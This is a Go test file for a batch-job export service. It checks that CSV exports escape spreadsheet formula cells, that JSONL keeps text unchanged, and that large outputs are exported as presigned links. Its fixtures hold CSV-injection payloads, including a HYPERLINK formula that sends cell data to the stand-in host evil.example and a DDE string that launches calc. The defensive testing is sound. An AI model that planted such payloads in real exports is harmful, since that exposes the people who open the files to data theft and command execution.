package transfer_test

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/mcpbatch/mcpbatch/shared/blob/fsblob"
	"github.com/mcpbatch/mcpbatch/shared/internal/localdeps"
	"github.com/mcpbatch/mcpbatch/shared/job"
	"github.com/mcpbatch/mcpbatch/shared/service/query"
	"github.com/mcpbatch/mcpbatch/shared/service/transfer"
)

// exportSuite is a service over the local store and blobs with one finished job
// holding recs.
func exportSuite(t *testing.T, recs []job.Record) (*transfer.Service, *fsblob.Store, *job.Job) {
	t.Helper()
	st, blobs := localdeps.New(t)
	ctx := context.Background()
	j := &job.Job{ID: job.NewID(time.Now()), Owner: "alice", Provider: "bedrock", Status: job.StatusCompleted, Shards: 1, RecordCount: len(recs)}
	if err := st.CreateJob(ctx, j); err != nil {
		t.Fatal(err)
	}
	for i := range recs {
		recs[i].JobID = j.ID
	}
	if err := st.PutRecords(ctx, j.RecordSet(), recs); err != nil {
		t.Fatal(err)
	}
	svc := &transfer.Service{Jobs: st, Blobs: blobs, Bucket: "s3://test", JobPrefix: "mcpbatch", Results: &query.Service{Jobs: st, Records: st}}
	return svc, blobs, j
}

// A spreadsheet runs a cell that starts with = + - @ (or a tab or CR before
// one) as a formula; model output is attacker-influenced text, so CSV exports
// neutralise such cells with a leading quote (OWASP "CSV Injection").
func TestExportCSVNeutralisesFormulas(t *testing.T) {
	recs := []job.Record{
		{ID: "a01", Status: job.RecordSucceeded, Output: `=HYPERLINK("http://evil.example/?"&A1,"click")`},
		{ID: "a02", Status: job.RecordSucceeded, Output: "+1+cmd|' /C calc'!A0"},
		{ID: "a03", Status: job.RecordSucceeded, Output: "-2+3"},
		{ID: "a04", Status: job.RecordSucceeded, Output: "@SUM(1,2)"},
		{ID: "a05", Status: job.RecordSucceeded, Output: "\t=1+1"},
		{ID: "a06", Status: job.RecordSucceeded, Output: "\r=1+1"},
		{ID: "a07", Status: job.RecordSucceeded, Output: "plain answer = 4"},
		{ID: "a08", Status: job.RecordFailed, ErrorCode: "=ERR", ErrorMessage: "@bad input"},
		{ID: "a09", Status: job.RecordSucceeded, Output: ""},
	}
	want := map[string][]string{ // id -> output, error_code, error_message
		"a01": {`'=HYPERLINK("http://evil.example/?"&A1,"click")`, "", ""},
		"a02": {"'+1+cmd|' /C calc'!A0", "", ""},
		"a03": {"'-2+3", "", ""},
		"a04": {"'@SUM(1,2)", "", ""},
		"a05": {"'\t=1+1", "", ""},
		"a06": {"'\r=1+1", "", ""},
		"a07": {"plain answer = 4", "", ""},
		"a08": {"", "'=ERR", "'@bad input"},
		"a09": {"", "", ""},
	}
	svc, blobs, j := exportSuite(t, recs)
	e, err := svc.Export(context.Background(), transfer.ExportRequest{Owner: "alice", JobID: j.ID, Format: transfer.ExportCSV})
	if err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(strings.NewReader(localdeps.Read(t, blobs, e.URI))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != len(recs)+1 {
		t.Fatalf("%d rows, want header + %d", len(rows), len(recs))
	}
	for _, row := range rows[1:] {
		w, ok := want[row[0]]
		if !ok {
			t.Fatalf("unexpected row %q", row)
		}
		got := []string{row[2], row[5], row[6]}
		for i := range w {
			if got[i] != w[i] {
				t.Errorf("record %s column %d = %q, want %q", row[0], i, got[i], w[i])
			}
		}
	}
}

// JSONL exports are data for programs, not spreadsheets: the text is kept as is.
func TestExportJSONLKeepsText(t *testing.T) {
	svc, blobs, j := exportSuite(t, []job.Record{{ID: "a01", Status: job.RecordSucceeded, Output: "=1+1"}})
	e, err := svc.Export(context.Background(), transfer.ExportRequest{Owner: "alice", JobID: j.ID})
	if err != nil {
		t.Fatal(err)
	}
	var l transfer.ExportLine
	if err := json.Unmarshal([]byte(localdeps.Read(t, blobs, e.URI)), &l); err != nil {
		t.Fatal(err)
	}
	if l.Output != "=1+1" {
		t.Errorf("output %q, want the text unchanged", l.Output)
	}
}

// A big output stored in object storage is exported as a link the caller can
// fetch (the blob store's presigned GET), never as the internal s3:// key.
func TestExportOutputURIIsALink(t *testing.T) {
	ref := "s3://test/results/x/a01.json"
	svc, blobs, j := exportSuite(t, []job.Record{{ID: "a01", Status: job.RecordSucceeded, OutputRef: ref}})
	link, err := blobs.PresignGet(context.Background(), ref, time.Hour)
	if err != nil {
		t.Fatal(err)
	}
	for _, format := range []string{transfer.ExportJSONL, transfer.ExportCSV} {
		e, err := svc.Export(context.Background(), transfer.ExportRequest{Owner: "alice", JobID: j.ID, Format: format})
		if err != nil {
			t.Fatal(err)
		}
		body := localdeps.Read(t, blobs, e.URI)
		if strings.Contains(body, "s3://") {
			t.Errorf("%s export holds an internal s3:// key:\n%s", format, body)
		}
		if !strings.Contains(body, link) {
			t.Errorf("%s export lacks the fetchable link %s:\n%s", format, link, body)
		}
	}
}
